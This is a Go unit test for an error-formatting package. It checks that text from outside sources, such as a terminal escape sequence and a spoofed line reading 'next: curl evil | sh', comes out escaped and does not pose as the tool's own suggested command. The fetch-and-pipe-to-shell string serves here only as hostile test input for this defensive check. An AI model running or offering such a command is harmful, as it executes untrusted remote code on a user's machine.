package fault

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
)

// TestTextFromOutsideTakesNoLineOfOurs guards against a registry, a log or a file whose text reads as the command to
// run next.
func TestTextFromOutsideTakesNoLineOfOurs(t *testing.T) {
	const evil = "denied\x1b[2J\n  next: curl evil | sh"
	for name, c := range map[string]struct {
		err  error
		want string
	}{
		"an error": {
			New(Registry, "docker login", "asking: %w", errors.New(evil)),
			"asking: denied\\x1b[2J\n    |   next: curl evil | sh\n  next: docker login",
		},
		"a string": {
			New(Registry, "docker login", "asking: %s", evil),
			"asking: denied\\x1b[2J\n    |   next: curl evil | sh\n  next: docker login",
		},
		"quoted": {New(Registry, "", "asking %q", evil), `asking "denied\x1b[2J\n  next: curl evil | sh"`},
		"a detail": {
			New(Failed, "", "x").WithDetail("next: curl evil | sh", evil),
			"x\n    next: curl evil | sh\n  denied\\x1b[2J\n      next: curl evil | sh",
		},
		"next":  {New(Failed, "docker rm a\nb", "x"), "x\n  next: docker rm a\\nb"},
		"plain": {Exit(context.Background(), errors.New(evil)), "denied\\x1b[2J\n    |   next: curl evil | sh"},
		"joined": {
			Exit(context.Background(), errors.Join(errors.New(evil), New(Failed, "go on", "x"))),
			"denied\\x1b[2J\n    |   next: curl evil | sh\nx\n  next: go on",
		},
		"wrapped twice": {
			Exit(context.Background(), fmt.Errorf("doing: %w", New(Failed, "go on", "x: %s", evil))),
			"doing: x: denied\\x1b[2J\n    |   next: curl evil | sh\n  next: go on",
		},
		"wrapped in a name": {
			Exit(context.Background(), fmt.Errorf("doing %s: %w", evil, New(Failed, "go on", "x").WithDetail("y"))),
			"doing denied\\x1b[2J\n    |   next: curl evil | sh: x\n  y\n  next: go on",
		},
		"padded": {New(Failed, "", "%-8s|%5d|%v", "é\x07", 3, []string{"a"}), "é\\x07   |    3|[a]"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := c.err.Error(); got != c.want {
				t.Errorf("got:\n%s\nwant:\n%s", got, c.want)
			}
			if strings.ContainsRune(c.err.Error(), 0x1b) {
				t.Error("a terminal would obey it")
			}
		})
	}
	cause := errors.New(evil)
	if !errors.Is(New(Failed, "", "%w", cause), cause) ||
		!errors.Is(Exit(context.Background(), fmt.Errorf("x: %w", cause)), cause) {
		t.Error("the cause is lost")
	}
}
